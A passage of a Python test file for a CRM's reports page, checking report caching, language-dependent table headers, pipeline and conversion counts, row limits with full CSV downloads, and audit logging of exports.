            report_tables(second)["pipeline_by_stage"].rows[-1][1].text
        other = log_in(app.test_client(), make_user(role="manager"))
        fresh = report_tables(other.get("/reports").get_data(as_text=True))
        assert number(fresh["pipeline_by_stage"].rows[-1][1].text) == 1
    report_views._cache.clear()


def without_csrf_tokens(html):
    """A page without its CSRF tokens, which carry the second they were made in."""
    return re.sub(r'(name="csrf[-_]token" (?:content|value)=)"[^"]*"', r'\1""', html)


def test_kept_figures_are_not_rendered_again_and_follow_the_language(app_factory):
    """The cache keeps a section's HTML with its figures: a second view renders no table
    again, and a change of language is a new entry, in the new language."""
    app = app_factory(REPORTS_CACHE_SECONDS=60)
    report_views._cache.clear()
    rendered = []

    def record(sender, template, context, **extra):
        rendered.append(template.name)

    with app.app_context(), template_rendered.connected_to(record, app):
        manager = make_user(role="manager", language="de")
        client = log_in(app.test_client(), manager)
        first = client.get("/reports").get_data(as_text=True)
        assert rendered.count("reports/_tables.html") == len(report_views.SECTIONS)
        rendered.clear()
        assert without_csrf_tokens(client.get("/reports").get_data(as_text=True)) == \
            without_csrf_tokens(first)
        assert "reports/_tables.html" not in rendered
        assert ">Phase</th>" in first and ">Stage</th>" not in first
        manager.language = "en"
        db.session.commit()
        english = client.get("/reports").get_data(as_text=True)
        assert rendered.count("reports/_tables.html") == len(report_views.SECTIONS)
        assert report_tables(english).keys() == report_tables(first).keys()
        assert ">Stage</th>" in english
    report_views._cache.clear()


def test_moving_back_and_forth_adds_no_leads_to_any_figure(app, agency):
    """History rows are not leads: a lead moved back and forth counts once."""
    lead = db.session.scalars(sa.select(Lead).where(Lead.title == "Sensorfabrik Daegu")).one()
    for stage in ("active", "prospect", "active", "prospect"):
        lead_services.change_stage(lead, stage, actor=agency.anna)
    db.session.commit()
    client = log_in(app.test_client(), agency.manager)
    tables = report_tables(client.get("/reports").get_data(as_text=True))
    assert number(tables["pipeline_by_stage"].rows[-1][1].text) == 6
    # Reached "active": Busan, Jena, Ohio, Graz (all won once), Dresden, the secret one, and
    # Daegu now; of them Busan, Jena, Ohio and Graz reached "decision".
    active = {cell.key: cell for cell in tables["conversion"].rows[2]}
    assert number(active["reached"].text) == 7
    assert active["share"].text.replace("\xa0", " ") == "57,1 %"


def test_a_long_table_shows_its_first_rows_and_the_download_has_all(app, monkeypatch):
    monkeypatch.setattr(report_views, "PAGE_ROWS", 2)
    year = this_year()
    manager = make_user(role="manager")
    for day in range(1, 6):
        make_event(name=f"Investorenseminar {day}", starts_on=f"{year}-05-{day:02d}")
    client = log_in(app.test_client(), manager)
    html = client.get("/reports").get_data(as_text=True)
    assert len(report_tables(html)["events"].rows) == 2
    assert "Die ersten 2 von 5 Zeilen" in html
    download = client.get("/reports/events.csv").get_data(as_text=True)
    assert all(f"Investorenseminar {day}" in download for day in range(1, 6))


def test_lists_cut_at_their_limit_say_how_many_there_are_and_link_to_all(app, monkeypatch):
    """Stalled leads and decisions ahead list the first few; the page says how many there are
    and links to the lead list that has all of them."""
    monkeypatch.setattr(report_queries, "LIST_LIMIT", 2)
    manager = make_user(role="manager")
    member = make_user()
    for number_ in range(3):
        lead = open_lead(member, "active", title=f"Stilles Projekt {number_}",
                         expected_decision_on=datetime.date.today() + timedelta(days=10))
        lead.created_at = datetime.datetime.now(UTC) - timedelta(days=60)
    db.session.commit()
    client = log_in(app.test_client(), manager)
    html = client.get("/reports").get_data(as_text=True)
    tables = report_tables(html)
    assert len(tables["stalled"].rows) == len(tables["pipeline_decisions"].rows) == 2
    assert html.count("Die ersten 2 von 3.") == 2
    links = re.findall(r'Die ersten 2 von 3\. <a href="([^"]+)">', html)
    assert len(links) == 2
    for link in links:
        page = client.get(link.replace("&amp;", "&")).get_data(as_text=True)
        assert all(f"Stilles Projekt {n}" in page for n in range(3)), link


def test_every_download_is_in_the_audit_log(login):
    from crm.audit.models import AuditEntry

    manager, client = login("manager")
    assert client.get("/reports/results.csv?from=2025-01-01&to=2025-12-31").status_code == 200
    assert client.get("/reports/all.xlsx").status_code == 200
    entries = db.session.scalars(sa.select(AuditEntry).where(AuditEntry.action == "export")
                                 .order_by(AuditEntry.id)).all()
    assert [(e.actor_id, e.changes["form"][1]) for e in entries] == [(manager.id, "csv"),
                                                                      (manager.id, "xlsx")]
    assert entries[0].changes["filters"] == [None, "from=2025-01-01&to=2025-12-31"]
    assert "2025-01-01-2025-12-31" in entries[0].record_label
